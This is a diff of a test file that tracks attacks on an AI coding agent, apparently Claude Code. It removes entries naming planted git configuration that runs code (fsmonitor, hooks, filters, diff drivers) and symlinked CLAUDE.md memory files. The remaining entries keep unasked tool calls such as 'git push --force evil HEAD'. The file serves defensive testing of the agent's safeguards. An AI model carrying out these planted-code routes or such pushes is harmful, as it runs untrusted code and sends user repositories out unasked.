@@ -3,33 +3,6 @@ import { assertEquals } from "@std/assert";
 
 /** By how the name of an attack begins: what of it still works, as its verdict says it. */
 export const OPEN: Readonly<Record<string, readonly string[]>> = {
-  "planted": [
-    "git: fsmonitor",
-    "git: a filter",
-    "git: textconv",
-    "git: a diff driver",
-    "git: a hook",
-    "CLAUDE.local.md is a link to a file outside",
-    ".claude/CLAUDE.md is a link to a file outside",
-  ],
-  "git": [
-    "core.fsmonitor",
-    "core.hooksPath",
-    "a hook",
-    "a filter",
-    "textconv",
-    "a diff driver",
-    "diff.external",
-    "an included file",
-    "a file included on a condition",
-    "the configuration of a worktree",
-    "a configuration that is a link",
-    "a section in other letters",
-    "a value over two lines",
-    "a section and a key on one line",
-  ],
-  "linked memory": ["CLAUDE.md is a link to a file outside"],
-  "approved at a terminal": ["not started: ⚠️ Claude Code was not started"],
   "grant": [
     "unasked: TOOL:bash:git push --force evil HEAD",
     "unasked: TOOL:bash:python3 -c 'print(1)'",
